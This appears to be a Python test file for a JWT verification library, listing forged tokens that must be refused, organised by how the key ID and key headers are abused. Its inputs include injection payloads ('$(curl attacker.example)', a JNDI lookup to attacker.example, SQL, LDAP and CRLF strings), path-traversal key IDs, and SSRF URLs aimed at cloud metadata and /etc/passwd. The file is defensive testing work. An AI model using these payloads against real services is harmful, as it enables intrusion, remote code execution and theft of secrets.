"""K: a header may name one of our keys. It never brings one, and never says where to get one."""

from __future__ import annotations

import datetime as dt
from base64 import b64encode

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding

from tests.corpus.case import Cases, values
from tests.forge import (
    DROP,
    EVIL_ED,
    EVIL_P256,
    EVIL_RSA,
    KIDS,
    RSA,
    PrivateKey,
    b64,
    claims,
    forge,
    header,
    hs256,
    public_jwk,
)
from tokenguard import Reason

CASES = Cases()
_UNKNOWN, _BAD = Reason.UNKNOWN_KEY, Reason.BAD_SIGNATURE

# K01: kid is compared exactly (RFC 7515 s4.1.4).
for name, kid in {
    "unknown": "unknown", "upper": "RS", "mixed": "Rs", "trailing-space": "rs ", "leading-space": " rs",
    "nul": "rs\0", "newline": "rs\n", "prefix": "r",
    "suffix": "rsx", "empty": "", "fullwidth": "\uff52\uff53", "zwsp": "r\u200bs", "long-s": "r\u017f",
    "combining": "rs\u0301", "quoted": '"rs"', "list-like": "[rs]",
    "number-like": "0", "none-like": "None", "null-like": "null", "several": "rs,ps", "wildcard": "*",
    "long": "k" * 4000, "dunder": "__proto__", "surrogate-pair": "\U0001f511",
}.items():  # fmt: skip
    CASES.refuse(f"K01:{name}", forge(head=header(kid=kid)), _UNKNOWN)
# C61: where a token stands in a name that is logged.
_TOKEN = forge()
CASES.refuse("K01:a-token", forge(head=header(kid=_TOKEN)), _UNKNOWN)
CASES.refuse("K01:a-token-as-iss", forge(claims(iss=_TOKEN)), Reason.WRONG_ISSUER)
CASES.refuse("K01:a-token-as-aud", forge(claims(aud=[_TOKEN])), Reason.WRONG_AUDIENCE)
CASES.refuse("K01:a-token-as-typ", forge(head=header(typ=_TOKEN)), Reason.WRONG_TYPE)
CASES.refuse("K01:a-token-as-alg", forge(head=header(alg=_TOKEN)), Reason.WRONG_ALGORITHM)
for name in ("weak", "enc", "oaep", "key-ops", "rs512", "oct", "xyz"):  # C20, C29: in the set, and of no use
    by = {"weak": "weak RS256", "oct": "HS256", "xyz": "RS256"}.get(name, "enc RS256")
    CASES.refuse(f"K01:key-of-no-use-{name}", forge(head=header(kid=name), by=by), _UNKNOWN)
CASES.refuse("K01:some-kid-for-keys-without", forge(), _UNKNOWN, "keys without kid")
CASES.refuse("K01:empty-kid-for-keys-without", forge(head=header(kid="")), _UNKNOWN, "keys without kid")
CASES.refuse("K01:none-like-kid-for-keys-without", forge(head=header(kid="None")), _UNKNOWN, "keys without kid")
CASES.refuse(
    "K01:no-kid-and-no-such-key", forge(head=header("ES256", kid=DROP), by="ES256"), _UNKNOWN, "keys without kid"
)
CASES.refuse("K01:two-keys-under-it", forge(), Reason.AMBIGUOUS_KEY, "two keys under one kid")
CASES.refuse("K01:two-keys-and-no-kid", forge(head=header(kid=DROP)), Reason.AMBIGUOUS_KEY, "two keys under one kid")

for name, odd in values({
    "null": None, "int": 1, "list": ["rs"], "object": {"rs": 1}, "true": True, "float": 1.5, "zero": 0,
    "false": False, "empty-list": [],
    "nested": [[["rs"]]], "minus": -1, "huge": 10**300,
}).items():  # fmt: skip
    CASES.refuse(f"K02:{name}", forge(head=header(kid=odd)), Reason.MALFORMED)

for name, kid, secret in (
    ("dev-null", "../../../../../../dev/null", b""),
    ("dev-null-nul", "/dev/null\0.pem", b"\0"),
    ("proc", "/proc/sys/kernel/randomize_va_space", b"2\n"),
    ("windows", "..\\..\\..\\nul", b""),
    ("file-url", "file:///dev/null", b""),
    ("url", "https://attacker.example/key.pem", b"secret"),
    ("sql", "x' UNION SELECT 'secret';--", b"secret"),
    ("sql-or", "' OR '1'='1", b"secret"),
    ("command", "rs; sleep 10", b""),
    ("backticks", "`id`", b""),
    ("shell", "$(curl attacker.example)", b""),
    ("pipe", "|/bin/true", b""),
    ("template", "{{7*7}}", b"49"),
    ("jndi", "${jndi:ldap://attacker.example/x}", b""),
    ("format", "%s%s%s%n {0.__class__} {kid}", b""),
    ("ldap", "*)(uid=*))(|(uid=*", b""),
    ("nosql", '{"$ne":null}', b""),
    ("crlf", "rs\r\nSet-Cookie: a=b", b""),
    ("ansi", "\x1b[2J\x1b[31mroot\x07", b""),
):
    CASES.refuse(
        f"K03:{name}-HS256", forge(head=header(alg="HS256", kid=kid), by=hs256(secret)), Reason.WRONG_ALGORITHM
    )
    CASES.refuse(f"K03:{name}-called-RS256", forge(head=header(kid=kid), by=hs256(secret)), _UNKNOWN)
    CASES.refuse(f"K03:{name}-genuine", forge(head=header(kid=kid)), _UNKNOWN)

# K05 (CVE-2018-0114): the attacker's key in the header, in each family, under his kid, ours and none.
EVIL: dict[str, PrivateKey] = {"RS256": EVIL_RSA, "PS256": EVIL_RSA, "ES256": EVIL_P256, "EdDSA": EVIL_ED}
for alg, evil in EVIL.items():
    for whose, kid, reason in (("own", "evil", _UNKNOWN), ("our", KIDS[alg], _BAD), ("no", DROP, _BAD)):
        jwk = public_jwk(evil, **({} if kid is DROP else {"kid": kid}))
        CASES.refuse(f"K05:{alg}-{whose}-kid", forge(head=header(alg, kid=kid, jwk=jwk), by=f"evil {alg}"), reason)
CASES.refuse("K05:private-jwk", forge(head=header(jwk=public_jwk(EVIL_RSA, kid="rs", d="AQAB")), by="evil RS256"), _BAD)
CASES.refuse(
    "K05:oct-jwk",
    forge(head=header(alg="HS256", jwk={"kty": "oct", "k": b64(b"x" * 32)}), by=hs256(b"x" * 32)),
    Reason.WRONG_ALGORITHM,
)
CASES.refuse(
    "K05:jwks",
    forge(head=header(kid="evil", jwks={"keys": [public_jwk(EVIL_RSA, kid="evil")]}), by="evil RS256"),
    _UNKNOWN,
)
CASES.refuse("K05:our-jwk-and-the-attackers-signature", forge(head=header(jwk=public_jwk(RSA)), by="evil RS256"), _BAD)
CASES.accept("K05:attackers-jwk-and-our-signature", forge(head=header(jwk=public_jwk(EVIL_RSA, kid="rs"))))

for name, url in {
    "attacker": "https://attacker.example/jwks.json", "metadata": "http://169.254.169.254/latest/meta-data/",
    "file": "file:///etc/passwd",
    "loopback": "http://127.0.0.1:1/jwks",
    "look-alike": "https://as.example.com@attacker.example/jwks",
    "open-redirect": "https://as.example.com/r?u=//attacker.example",
}.items():  # fmt: skip
    for param in ("jku", "x5u"):
        CASES.refuse(
            f"K07:{param}-{name}-own-kid",
            forge(head={"alg": "RS256", "kid": "evil", param: url}, by="evil RS256"),
            _UNKNOWN,
        )
        CASES.refuse(
            f"K07:{param}-{name}-our-kid", forge(head={"alg": "RS256", "kid": "rs", param: url}, by="evil RS256"), _BAD
        )


def _self_signed() -> str:
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "as.example.com")])
    day = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    certificate = (
        x509.CertificateBuilder(name, name, EVIL_RSA.public_key(), 1, day, day + dt.timedelta(days=3650))
        .sign(EVIL_RSA, hashes.SHA256())
        .public_bytes(Encoding.DER)
    )
    return b64encode(certificate).decode("ascii")


_x5c = _self_signed()
for whose, kid, reason in (("own", "evil", _UNKNOWN), ("our", "rs", _BAD), ("no", DROP, _BAD)):
    CASES.refuse(f"K09:{whose}-kid", forge(head=header(kid=kid, x5c=[_x5c]), by="evil RS256"), reason)
CASES.refuse(
    "K09:kid-and-thumbprint",
    forge(head=header(kid=DROP, x5c=[_x5c], x5t="AAAA", **{"x5t#S256": "AAAA"}), by="evil RS256"),
    _BAD,
)
CASES.accept("K09:attackers-x5c-and-our-signature", forge(head=header(x5c=[_x5c])))
